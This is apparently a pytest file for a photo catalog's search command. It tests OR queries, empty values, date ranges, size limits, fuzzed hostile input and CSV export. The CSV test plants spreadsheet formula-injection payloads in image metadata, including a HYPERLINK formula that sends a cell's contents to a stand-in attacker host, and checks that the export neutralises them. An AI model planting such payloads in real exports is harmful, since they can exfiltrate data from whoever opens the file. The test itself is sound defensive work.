"""Search queries that used to be refused, answer nothing silently, crash on size or garble a spreadsheet (issue 10).

The desk: five pictures from three agencies and three kinds, captions in English, Russian and Hebrew, metadata
written by exiftool, capture dates from EXIF.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from catalog.db.search import SearchSql
from catalog.errors import InvalidQuery
from catalog.library import Library, open_library
from catalog.ops.assets import search
from catalog.search.query import MAX_QUERY_CHARS, MAX_TERMS, parse

from .helpers import cached_library, exiftool, photo, run, run_json

PICTURES = {
    "kremlin.jpg": ("2016:06:06 10:00:00", "Netanyahu meets Putin in the Kremlin (Haim Zach/GPO)"),
    "moscow.jpg": ("2016:06:07 12:00:00", "Путин в Кремле, Москва. REUTERS/Maxim Shemetov"),
    "warsaw.jpg": ("2016:07:09 09:30:00", "Obama and Duda at the NATO summit in Warsaw (Evan Vucci/AP Pool)"),
    "office.jpg": ("2016:05:02 08:00:00", "נתניהו בלשכה בירושלים (GPO/Handout)"),
    "bolshoi.jpg": ("2016:06:07 21:00:00", "Netanyahu and Putin at the Bolshoi theatre (Kobi Gideon/GPO)"),
}
PEOPLE = "name,aliases\nBenjamin Netanyahu,Bibi|נתניהו\nVladimir Putin,Путин\nBarack Obama,\nAndrzej Duda,\n"


def dated(path: Path, when: str, seed: int) -> Path:
    exif = Image.Exif()
    exif.get_ifd(0x8769)[0x9003] = when
    return photo(path, size=(480, 320), seed=seed, fmt="JPEG", quality=90, exif=exif.tobytes())


def build_desk(tmp: Path) -> dict[str, int]:
    folder = tmp / "incoming"
    folder.mkdir(parents=True)
    for seed, (name, (when, caption)) in enumerate(PICTURES.items(), start=40):
        exiftool(dated(folder / name, when, seed), f"-XMP-dc:Description={caption}")
    (tmp / "people.csv").write_text(PEOPLE, encoding="utf-8")
    assert run("people", "import", str(tmp / "people.csv")).exit_code == 0
    assert run("ingest", str(folder)).exit_code == 0
    return {a["filename"]: a["id"] for a in run_json("ls", "--limit", "50")}


@pytest.fixture
def desk(tmp_path: Path, library: Path, needs_exiftool: None) -> dict[str, int]:
    return cached_library("search-defects", library, lambda: build_desk(tmp_path))


def ids(*args: str) -> list[int]:
    """The ids a search prints, in its order."""
    result = run("search", *args, "--json")
    assert result.exit_code == 0, result.stderr
    return [a["id"] for a in json.loads(result.stdout)]


def found(*args: str) -> set[int]:
    return set(ids(*args))


def one_line_error(*args: str) -> str:
    result = run("search", *args)
    assert result.exit_code == 1, result.stdout
    assert result.stderr.startswith("Error: ") and len(result.stderr.strip().splitlines()) == 1, result.stderr
    return result.stderr


# --- OR joins field terms ----------------------------------------------------------------------------------------


def test_or_joins_agencies_people_credits_and_kinds(desk: dict[str, int]) -> None:
    gpo = {desk["kremlin.jpg"], desk["office.jpg"], desk["bolshoi.jpg"]}
    assert found("agency:GPO") == gpo
    assert found("agency:GPO OR agency:Reuters") == gpo | {desk["moscow.jpg"]}
    assert found("agency:GPO", "OR", "agency:Reuters") == found("agency:GPO OR agency:Reuters")
    assert found('person:"Barack Obama" OR person:Путин') == {
        desk["warsaw.jpg"],
        desk["kremlin.jpg"],
        desk["moscow.jpg"],
        desk["bolshoi.jpg"],
    }
    assert found("credit:zach OR credit:shemetov") == {desk["kremlin.jpg"], desk["moscow.jpg"]}
    assert found("kind:pool OR kind:handout") == {desk["warsaw.jpg"], desk["office.jpg"]}
    # OR binds tighter than the AND between terms: (pool OR handout) AND June-or-later
    assert found("kind:pool OR kind:handout since:2016-06") == {desk["warsaw.jpg"]}
    # three alternatives of three fields, and an OR group beside a negation
    assert found("agency:Reuters OR kind:pool OR credit:gideon") == {
        desk["moscow.jpg"],
        desk["warsaw.jpg"],
        desk["bolshoi.jpg"],
    }
    assert found("agency:GPO OR agency:AP -kind:handout") == {
        desk["kremlin.jpg"],
        desk["bolshoi.jpg"],
        desk["warsaw.jpg"],
    }


def test_or_joins_a_field_term_and_a_free_word(desk: dict[str, int]) -> None:
    assert found("agency:AP OR кремле") == {desk["warsaw.jpg"], desk["moscow.jpg"]}
    assert found("bolshoi OR kind:handout") == {desk["bolshoi.jpg"], desk["office.jpg"]}
    assert found("putin", "agency:Reuters OR kind:handout") == {desk["moscow.jpg"]}


@pytest.mark.parametrize(
    "query",
    ["NOT agency:GPO OR kremlin", "-kind:pool OR kind:handout", "agency:GPO OR -putin", "NOT putin OR kremlin"],
)
def test_or_beside_a_negated_term_is_an_error(desk: dict[str, int], query: str) -> None:
    assert "OR cannot join a negated" in one_line_error(query)


def test_dates_cannot_be_joined_with_or(desk: dict[str, int]) -> None:
    assert "dates cannot be joined with OR" in one_line_error("date:2016-06 OR date:2016-07")
    assert "dates cannot be joined with OR" in one_line_error("kind:pool OR since:2016-07")


# --- empty values and empty date ranges --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("person:",), "person: needs a value"),
        (("credit:",), "credit: needs a value"),
        (("person: Netanyahu",), "person: needs a value"),
        (("putin", "credit:"), "credit: needs a value"),
        (("photographer:",), "photographer: needs a value"),
        (("kind:",), "kind: needs a value"),
        (('agency:""',), "agency: needs a value"),
        (("--person", ""), "person: needs a value"),
        (("--credit", ""), "credit: needs a value"),
        (("--credit", "   "), "credit: needs a value"),
        (("--person", "\t"), "person: needs a value"),
        (("credit:---",), "credit:---: a name needs letters or digits"),
        (("--person", "—"), "person:—: a name needs letters or digits"),
    ],
)
def test_empty_names_are_one_line_errors(desk: dict[str, int], args: tuple[str, ...], message: str) -> None:
    assert message in one_line_error(*args)


@pytest.mark.parametrize(
    "args",
    [
        ("date:2016-07..2016-06",),
        ("date:2016-06-08..2016-06-07",),
        ("since:2016-07 until:2016-06",),
        ("--since", "2016-07", "--until", "2016-06"),
        ("since:2017", "--until", "2016"),
        ("date:2016-06 date:2016-07",),
    ],
)
def test_date_ranges_that_hold_no_day_are_one_line_errors(desk: dict[str, int], args: tuple[str, ...]) -> None:
    assert "no day" in one_line_error(*args)


def test_one_day_and_open_ranges_still_work(desk: dict[str, int]) -> None:
    assert found("date:2016-06-07..2016-06-07") == {desk["moscow.jpg"], desk["bolshoi.jpg"]}
    assert found("--since", "2016-06-07", "--until", "2016-06-07") == {desk["moscow.jpg"], desk["bolshoi.jpg"]}
    assert found("date:2016-07..") == {desk["warsaw.jpg"]}
    assert found("date:..2016-05") == {desk["office.jpg"]}


# --- the option and the field are one query ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("option", "field"),
    [
        (("--credit", "Haim Zach"), 'credit:"Haim Zach"'),
        (("--credit", "zach"), "credit:zach"),
        (("--person", "Netanyahu"), "person:Netanyahu"),
        (("--agency", "GPO"), "agency:GPO"),
        (("--kind", "handout"), "kind:handout"),
        (("--since", "2016-06"), "since:2016-06"),
    ],
)
def test_an_option_and_its_field_give_the_same_pictures_in_the_same_order(
    desk: dict[str, int], option: tuple[str, str], field: str
) -> None:
    for words in ((), ("netanyahu",), ("netanyahu", "OR", "кремле"), ("-bolshoi",)):
        assert ids(*words, *option), words  # two empty answers would agree about nothing
        assert ids(*words, *option) == ids(*words, field), words
        assert ids(*option, *words) == ids(field, *words), words
        key, value = option[0][2:], option[1]
        filters = {key: value if key == "since" else (value,)}
        assert parse(" ".join(words), **filters) == parse(" ".join((*words, field)))


# --- size bounds ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("credit:" + "a" * 100_000,),
        ("person:" + "ש" * 100_000,),
        ("--credit", "z" * 100_000),
        (" ".join(["word"] * 100_000),),
        tuple(f"w{i}" for i in range(100_000)),
        (" OR ".join(f"agency:a{i}" for i in range(20_000)),),
    ],
    ids=["credit", "person", "option", "words-in-one", "words-as-args", "or-chain"],
)
def test_huge_queries_are_one_line_errors(desk: dict[str, int], args: tuple[str, ...]) -> None:
    message = one_line_error(*args)
    assert "at most" in message and "catalog error" not in message and "rejected" not in message


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("caf\udce9",), "not valid text"),
        (("put\x00in",), "control character"),
        (("--person", "Bibi\x1b[2J"), "control"),
    ],
)
def test_text_sqlite_cannot_take_is_a_one_line_error(desk: dict[str, int], args: tuple[str, ...], message: str) -> None:
    assert message in one_line_error(*args)  # a byte that is not UTF-8 on the command line arrives as a surrogate


def test_the_largest_allowed_queries_run(desk: dict[str, int], tmp_path: Path) -> None:
    """At the bounds, every kind of term reaches the engine and the engine accepts it (variables, expression depth)."""
    every_name = "\n".join(f"Person Number{i},Alias{i}" for i in range(300))
    (tmp_path / "many.csv").write_text("name,aliases\n" + every_name + "\n", encoding="utf-8")
    assert run("people", "import", str(tmp_path / "many.csv")).exit_code == 0
    half = MAX_TERMS // 2
    queries = [
        " ".join(f"-agency:a{i}" for i in range(MAX_TERMS)),
        " ".join(f"-w{i}" for i in range(MAX_TERMS)),
        " OR ".join(f"agency:a{i}" for i in range(MAX_TERMS)),
        " OR ".join(f"kind:{k}" for k in ["pool", "handout"] * half),
        " ".join(["-person:e"] * half + ["person:e"] * half),  # each expands to every listed name
        " OR ".join(["person:n", "credit:a", "agency:GPO", "w"] * (MAX_TERMS // 4)),
        "credit:" + "a" * (MAX_QUERY_CHARS - len("credit:")),
    ]
    for query in queries:
        assert len(query) <= MAX_QUERY_CHARS
        result = run("search", query, "--json")
        assert result.exit_code == 0, (query[:60], result.stderr)
    assert set(ids(" OR ".join(["kind:pool"] * MAX_TERMS))) == {desk["warsaw.jpg"]}


@pytest.fixture
def small_library(tmp_path: Path, library: Path) -> Iterator[Library]:
    """A real library with pictures, people and photographers, on the test's engine, shared by the property
    test's examples (built once for the test: hypothesis runs every example in one call of it)."""
    folder = tmp_path / "incoming"
    folder.mkdir()
    for seed, (name, (when, caption)) in enumerate(PICTURES.items(), start=40):
        dated(folder / name, when, seed)
        sidecar = {"caption": caption, "people": ["Benjamin Netanyahu", "Bibi"]}
        (folder / name).with_suffix(".json").write_text(json.dumps(sidecar, ensure_ascii=False), "utf-8")
    (tmp_path / "people.csv").write_text(PEOPLE, encoding="utf-8")
    assert run("people", "import", str(tmp_path / "people.csv")).exit_code == 0
    assert run("ingest", str(folder)).exit_code == 0
    opened = open_library(library)
    yield opened
    opened.close()


WORDS = st.sampled_from(
    ["putin", "Путин", "נתניהו", "OR", "AND", "NOT", "-", "*", '"', '""', "(", ")", "{", "}", ":", "^", "NEAR", "+"]
)
FIELD_TOKENS = st.builds(
    lambda neg, name, value: f"{neg}{name}:{value}",
    st.sampled_from(["", "-"]),
    st.sampled_from(["person", "credit", "agency", "kind", "date", "since", "until", "by"]),
    st.one_of(
        st.sampled_from(["GPO", "pool", "2016", "2016-06..2016-07", '"Haim Zach"', "e", "%", "_", "\\", "*"]),
        st.text(min_size=0, max_size=30),
        st.text(alphabet='ab\x00"*:-_%\\{}()^. ', max_size=12),
    ),
)
# short strings dense in what FTS5 and LIKE treat specially, beside letters
HOSTILE = st.text(alphabet='ab\x00"*:-_%\\{}()^. \t', max_size=12)
QUERIES = st.lists(st.one_of(WORDS, FIELD_TOKENS, HOSTILE, st.text(max_size=20)), max_size=MAX_TERMS + 8).map(" ".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(QUERIES)
def test_any_query_runs_or_is_refused_in_one_line(small_library: Library, text: str) -> None:
    """Nothing that reaches the engine is rejected by it: the only failure is the parser's own InvalidQuery."""
    try:
        query = parse(text)
    except InvalidQuery:
        return
    search(small_library, query, limit=5)


def test_a_bug_in_the_search_surfaces_as_a_bug_not_a_rejected_query(tmp_path: Path, monkeypatch) -> None:
    """Only the user's query can be refused in one line; a TypeError of ours is not 'the index rejected it'."""
    run_json("ingest", str(photo(tmp_path / "in" / "a.jpg", fmt="JPEG")))

    def broken(*args: object) -> None:
        raise TypeError("unsupported operand")

    with monkeypatch.context() as patch, pytest.raises(TypeError, match="unsupported operand"):
        patch.setattr(SearchSql, "to_sql", broken)
        run("search", "putin")
    assert run("search", "putin").exit_code == 0


# --- spreadsheets -----------------------------------------------------------------------------------------------


def test_search_csv_cells_never_start_a_formula(tmp_path: Path, needs_exiftool: None) -> None:
    folder = tmp_path / "incoming"
    hostile = dated(folder / "hostile.jpg", "2016:06:06 10:00:00", seed=7)
    exiftool(
        hostile,
        '-XMP-dc:Description==HYPERLINK("http://evil.example/?"&A1,"Путин")',
        "-XMP-photoshop:Headline=+SUM(1,2)",
        "-XMP-photoshop:Credit=@Evil Corp",
        "-XMP-dc:Subject=-2+3",
        "-XMP-dc:Subject=кремль",
    )
    assert run("ingest", str(folder)).exit_code == 0
    result = run("search", "кремль", "--csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(result.stdout.splitlines()))
    assert len(rows) == 1
    row = rows[0]
    assert row["caption"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Путин")'
    assert row["headline"] == "'+SUM(1,2)"
    assert row["keywords"] == "'-2+3; кремль"
    assert row["credit_line"].startswith("'@")
    [hostile_asset] = run_json("ls")
    assert row["id"] == str(hostile_asset["id"])  # numbers we wrote stay numbers
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
